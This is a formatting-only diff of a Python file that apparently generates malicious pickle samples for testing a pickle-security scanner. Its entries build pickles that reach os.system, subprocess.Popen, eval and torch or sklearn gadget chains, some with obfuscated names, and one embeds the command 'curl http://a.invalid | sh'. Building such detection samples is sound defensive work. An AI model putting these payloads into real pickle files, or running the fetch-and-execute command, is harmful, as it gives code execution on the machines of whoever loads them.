@@ -81,7 +81,9 @@ def _indirect() -> dict[str, bytes]:
         "attrgetter": call(call(system, fetch("os:path")), echo),
         "attrgetter-of-import": call(call(system, imported), echo),
         "methodcaller": call(call("operator:methodcaller", "system", echo), module),
-        "methodcaller-of-c": call(call("_operator:methodcaller", "popen", echo), module),
+        "methodcaller-of-c": call(
+            call("_operator:methodcaller", "popen", echo), module
+        ),
         "itemgetter-of-names": call(
             call(call("operator:itemgetter", "eval"), call("builtins:globals")), "1"
         ),
@@ -121,9 +123,7 @@ def _indirect() -> dict[str, bytes]:
         "reduce": call("functools:reduce", entry, [echo, echo]),
         "reduce-of-python-2": call("__builtin__:reduce", entry, [echo, echo]),
         "map-and-list": call("builtins:list", items),
-        "map-and-tuple": Code(
-            fetch("builtins:tuple") + value((items,)) + b"\x81"
-        ),
+        "map-and-tuple": Code(fetch("builtins:tuple") + value((items,)) + b"\x81"),
         "map-and-bytes": call("builtins:bytes", items),
         "map-and-set": call("builtins:set", items),
         "map-and-deque": call("collections:deque", items),
@@ -133,9 +133,9 @@ def _indirect() -> dict[str, bytes]:
         "takewhile": call("builtins:list", call("itertools:takewhile", entry, [echo])),
         "groupby": call("builtins:list", call("itertools:groupby", [echo], entry)),
         "iterator-with-end": call("builtins:list", call("builtins:iter", entry, 1)),
-        "sorted-by-key": call("builtins:sorted", [echo]) if False else call(
-            call("functools:partial", fetch("builtins:sorted"), [echo]), entry
-        ),
+        "sorted-by-key": call("builtins:sorted", [echo])
+        if False
+        else call(call("functools:partial", fetch("builtins:sorted"), [echo]), entry),
         "max-by-key": Code(
             fetch("builtins:max") + value(([echo],)) + value({"key": entry}) + b"\x92"
         ),
@@ -173,7 +173,9 @@ def _indirect() -> dict[str, bytes]:
         "thread": call("threading:Thread", None, entry, "n", (echo,)),
         "timer": call("threading:Timer", 0, entry, [echo]),
         "reconstructor": call(
-            "copyreg:_reconstructor", fetch("subprocess:Popen"), fetch("builtins:object")
+            "copyreg:_reconstructor",
+            fetch("subprocess:Popen"),
+            fetch("builtins:object"),
         ),
         "newobj-function": call("copyreg:__newobj__", fetch("subprocess:Popen"), echo),
         "newobj-ex-function": call(
@@ -214,13 +216,22 @@ def _indirect() -> dict[str, bytes]:
         ),
         "tensor-map": call(fetch_stack("torch:Tensor.apply_"), entry),
         "rebuild-from-type": call(
-            "torch._tensor:_rebuild_from_type_v2", entry, fetch("torch:Tensor"), (echo,), {}
+            "torch._tensor:_rebuild_from_type_v2",
+            entry,
+            fetch("torch:Tensor"),
+            (echo,),
+            {},
         ),
         "function-transformer": call(
-            fetch_stack("sklearn.preprocessing._function_transformer:"
-                        "FunctionTransformer.transform"), call(
-                "sklearn.preprocessing._function_transformer:FunctionTransformer",
-                entry), echo),
+            fetch_stack(
+                "sklearn.preprocessing._function_transformer:"
+                "FunctionTransformer.transform"
+            ),
+            call(
+                "sklearn.preprocessing._function_transformer:FunctionTransformer", entry
+            ),
+            echo,
+        ),
         "state-with-function": instance(
             "sklearn.preprocessing._function_transformer:FunctionTransformer",
             {"func": entry},
@@ -229,31 +240,45 @@ def _indirect() -> dict[str, bytes]:
             "torch.nn.modules.linear:Linear", {"_forward_hooks": {0: entry}}
         ),
         "unknown-with-function": instance("house.layers:Attic", state),
-        "unknown-with-command": call("house.tools:perform", "curl http://a.invalid | sh"),
+        "unknown-with-command": call(
+            "house.tools:perform", "curl http://a.invalid | sh"
+        ),
         "unknown-with-source": call("house.tools:perform", "__import__('os').getcwd()"),
         "tensor-loader": call(
             "torch.storage:_load_from_bytes", b"\x80\x02cos\nsystem\nVecho\n\x85R."
         ),
         "names-joined": Code(
-            call(call("builtins:getattr", "", "join"), ["o", "s"]) + value("system")
-            + b"\x93" + value((echo,)) + b"R"
+            call(call("builtins:getattr", "", "join"), ["o", "s"])
+            + value("system")
+            + b"\x93"
+            + value((echo,))
+            + b"R"
         ),
         "names-replaced": Code(
-            short_text("os") + call(
-                call("builtins:getattr", "sxstem", "replace"), "x", "y")
-            + b"\x93" + value((echo,)) + b"R"
+            short_text("os")
+            + call(call("builtins:getattr", "sxstem", "replace"), "x", "y")
+            + b"\x93"
+            + value((echo,))
+            + b"R"
         ),
         "names-of-bytes": Code(
-            call("builtins:str", b"os", "utf-8") + value("system")
-            + b"\x93" + value((echo,)) + b"R"
+            call("builtins:str", b"os", "utf-8")
+            + value("system")
+            + b"\x93"
+            + value((echo,))
+            + b"R"
         ),
         "result-called": call(call("house.tools:Maker"), echo),
         "interpreter": call("_xxsubinterpreters:run_string", 0, "1"),
         "gc-referrers": call("gc:get_objects"),
         "frame": call("sys:_getframe", 0),
         "stack": call("inspect:stack"),
-        "context-run": call(fetch_stack("contextvars:Context.run"),
-                            call("contextvars:Context"), entry, echo),
+        "context-run": call(
+            fetch_stack("contextvars:Context.run"),
+            call("contextvars:Context"),
+            entry,
+            echo,
+        ),
     }
 
 
@@ -308,9 +333,7 @@ def samples() -> Iterator[Sample]:
             )
     for what, codes in (("indirect", _indirect()), ("nested", _nested())):
         for name, code in codes.items():
-            yield _sample(
-                f"{what}-{name}", f"{what}: {name}", stream(code, protocol=4)
-            )
+            yield _sample(f"{what}-{name}", f"{what}: {name}", stream(code, protocol=4))
 
 
 def _sample(name: str, technique: str, data: bytes) -> Sample:
